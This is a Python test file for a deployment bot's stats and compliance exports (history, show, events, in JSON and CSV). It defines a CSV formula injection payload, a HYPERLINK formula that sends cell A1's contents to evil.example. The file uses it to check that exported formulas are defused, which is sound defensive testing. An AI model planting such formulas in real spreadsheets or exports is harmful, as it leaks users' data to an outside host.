"""Compliance exports and `deploybot stats` at the terminal (handlers/exports.py), against the
real store and pipeline with fakes at the edges and the store's clock in the test's hands."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from bot import dora
from handlers import cli, exports
from fakes.schedule import START, ManualClock
from tests.unit.test_cli_inputs import Terminal

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def term(tmp_path, monkeypatch) -> Terminal:
    t = Terminal(tmp_path, monkeypatch)
    t.clock = ManualClock()
    t.store.now = t.clock.now  # tickets are created on the same clock
    t.edges.now = t.clock.now
    return t


def out_of(capsys, term, *argv: str) -> str:
    assert term(*argv) == cli.EXIT_OK, capsys.readouterr().err
    return capsys.readouterr().out


def two_deployments(term) -> tuple[str, str]:
    """DEMO-1 created at START, deployed to staging 2 h later; DEMO-2 (not ready) blocked."""
    shipped = term.ticket(HOSTILE)
    term.clock.advance(hours=2)
    assert term("deploy", shipped, "web@v2", "--env", "staging") == cli.EXIT_OK
    blocked = term.tracker.create_ticket("not ready", status="Open")
    term.clock.advance(hours=1)
    assert term("deploy", blocked, "web@v3", "--env", "staging") != cli.EXIT_OK
    return shipped, blocked


def test_stats_counts_what_reached_the_backend_with_ticket_times(term, capsys):
    two_deployments(term)
    term.clock.advance(hours=1)
    capsys.readouterr()
    data = json.loads(out_of(capsys, term, "stats", "--env", "staging", "--json", "--since",
                             "1d"))
    assert data["filters"] == {"environments": ["staging"], "service": None}
    assert data["window"]["days"] == 1.0
    assert data["deployment_frequency"] == {"deployments": 1, "per_day": 1.0, "per_week": 7.0}
    assert data["change_failure_rate"] == {"deployments": 1, "failed": 0, "rate": 0.0,
                                           "failures_by_reason": {}}
    # the local tracker has no status history: readiness is when deploybot first saw it
    assert data["lead_time"]["ready_to_deployed"] == {
        "changes": 1, "median_seconds": 0.0, "p90_seconds": 0.0, "ready_from_tracker": 0,
        "ready_first_seen_by_deploybot": 1}
    assert data["lead_time"]["created_to_deployed"]["median_seconds"] == 2 * 3600
    text = out_of(capsys, term, "stats", "--env", "staging")
    assert "1 successful deploy(s)" in text and "first seen ready by deploybot for 1" in text


def test_stats_defaults_to_production_and_refuses_bad_input(term, capsys):
    two_deployments(term)
    capsys.readouterr()
    data = json.loads(out_of(capsys, term, "stats", "--json"))
    assert data["filters"]["environments"] == ["production"]
    assert data["deployment_frequency"]["deployments"] == 0
    for argv in (["--since", "7x"], ["--since", "2999-01-01"], ["--env", "nowhere"],
                 ["--service", "nothing"]):
        assert term("stats", *argv) == cli.EXIT_USAGE
        err = capsys.readouterr().err
        assert err.startswith("error: ") and "Traceback" not in err


def test_history_json_and_csv_carry_the_same_rows(term, capsys):
    two_deployments(term)
    capsys.readouterr()
    rows = json.loads(out_of(capsys, term, "history", "--json"))
    assert [(r["id"], r["status"]) for r in rows] == [(2, "blocked"), (1, "succeeded")]
    assert list(rows[0]) == exports.DEPLOYMENT_FIELDS
    assert rows[1]["created_at"] == dora.iso_utc(START + timedelta(hours=2))
    table = list(csv.DictReader(io.StringIO(out_of(capsys, term, "history", "--csv"))))
    assert [r["id"] for r in table] == ["2", "1"]
    assert table[1]["dry_run"] == "false" and table[1]["finished_at"] == rows[1]["finished_at"]
    assert table[0]["failure"] == rows[0]["failure"]
    assert "Ready for production: status is 'Open'" in table[0]["failure"]


def test_show_json_has_the_deployment_checks_gates_record_and_trail(term, capsys):
    shipped, _ = two_deployments(term)
    capsys.readouterr()
    data = json.loads(out_of(capsys, term, "show", "1", "--json"))
    assert data["deployment"]["ticket_id"] == shipped and data["deployment"]["id"] == 1
    assert {c["name"] for c in data["checks"]} >= {"ticket_status", "cq_approval", "qa_pass"}
    assert all(c["updated_at"].endswith("Z") for c in data["checks"])
    assert data["gates"] == []
    assert HOSTILE in data["record"]  # the title, verbatim and JSON-escaped
    kinds = [e["kind"] for e in data["events"]]
    assert kinds[0] == "requested" and "deploying" in kinds and "succeeded" in kinds
    with pytest.raises(SystemExit) as exc:  # one deployment is a document: JSON only
        term("show", "1", "--csv")
    assert exc.value.code == cli.EXIT_USAGE


def test_events_export_filters_by_deployment_and_time(term, capsys):
    two_deployments(term)
    capsys.readouterr()
    everything = json.loads(out_of(capsys, term, "events"))
    assert [e["id"] for e in everything] == sorted(e["id"] for e in everything)
    assert {e["deployment_id"] for e in everything} == {1, 2}
    only_two = json.loads(out_of(capsys, term, "events", "--deployment", "2", "--json"))
    assert only_two and {e["deployment_id"] for e in only_two} == {2}
    term.clock.advance(minutes=30)  # the blocked one happened 30 min ago, the other 90 min
    recent = json.loads(out_of(capsys, term, "events", "--since", "1h"))
    assert recent == only_two
    table = list(csv.DictReader(io.StringIO(out_of(capsys, term, "events", "--csv"))))
    assert [int(r["id"]) for r in table] == [e["id"] for e in everything]
    assert list(table[0]) == exports.EVENT_FIELDS
    with pytest.raises(SystemExit) as exc:
        term("events", "--json", "--csv")
    assert exc.value.code == cli.EXIT_USAGE


def test_csv_quotes_properly_and_defuses_formulas(capsys):
    rows = [{"id": 1, "title": HOSTILE, "note": 'two\nlines, "quoted"', "flag": True,
             "none": None},
            {"id": 2, "title": "+1", "note": "-2", "flag": False, "none": "@SUM(A1)"},
            {"id": 3, "title": "a=b", "note": "\tx", "flag": False, "none": "fine"}]
    exports.write_csv(["id", "title", "note", "flag", "none"], rows)
    back = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert back[1] == ["1", "'" + HOSTILE, 'two\nlines, "quoted"', "true", ""]
    assert back[2] == ["2", "'+1", "'-2", "false", "'@SUM(A1)"]
    assert back[3] == ["3", "a=b", "'\tx", "false", "fine"]
